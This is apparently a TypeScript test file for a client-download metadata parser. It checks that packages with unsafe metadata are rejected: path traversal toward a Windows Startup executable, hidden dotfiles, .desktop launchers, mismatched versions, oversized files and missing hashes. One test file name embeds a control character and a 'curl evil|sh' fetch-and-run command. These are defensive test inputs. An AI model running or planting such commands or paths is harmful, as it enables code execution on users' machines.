import { expect, test } from 'vitest';
import { askDownloads } from './client-downloads.ts';

const right = {
  kind: 'deb',
  processor: 'x64',
  version: '0.2.0',
  path: '/clients/marquee-0.2.0-linux-amd64.deb',
  size: 90_000_000,
  sha256: 'a'.repeat(64),
  signature: 'c2ln',
};

const ask = (...packages: unknown[]) =>
  askDownloads('https://signs.example', async () =>
    Response.json({ status: 0, data: { packages, dictionaries: ['en-US'] } }),
  );

test('a package is taken as the server says it is', async () => {
  expect(await ask(right)).toEqual({ packages: [right], dictionaries: ['en-US'] });
  expect(await ask({ ...right, signature: undefined, notes: 'more' })).toMatchObject({
    packages: [{ signature: null }],
  });
});

test.each([
  ['leads out of its folder', { path: '/clients/..' }],
  ['leads out of its folder on Windows', { path: String.raw`/clients/..\..\Startup\a.exe` }],
  ['has no name', { path: '/clients/' }],
  ['is hidden', { path: '/clients/.bashrc' }],
  ['is opened by another program', { path: '/clients/marquee.desktop' }],
  [
    'types more than it shows in a terminal',
    { path: '/clients/marquee-0.2.0\u0003\ncurl evil|sh\n-linux-amd64.deb' },
  ],
  ['is of another version than it says', { version: '9.0.0' }],
  ['is of another kind than it says', { kind: 'appImage' }],
  ['is for another processor than it says', { processor: 'arm64' }],
  ['is of a kind that nobody knows', { kind: 'rpm' }],
  ['fills the disk', { size: 2 ** 40 }],
  ['cannot be checked', { sha256: undefined }],
])('one that %s is passed over, and no other with it', async (_what, wrong) => {
  expect((await ask({ ...right, ...wrong }, right))?.packages).toEqual([right]);
});

test('a server whose answer has no end has nothing', async () => {
  const piece = new Uint8Array(64 * 1024);
  const body = () =>
    new ReadableStream<Uint8Array>({ pull: (controller) => controller.enqueue(piece) });
  expect(await askDownloads('https://signs.example', async () => new Response(body()))).toBeNull();
});
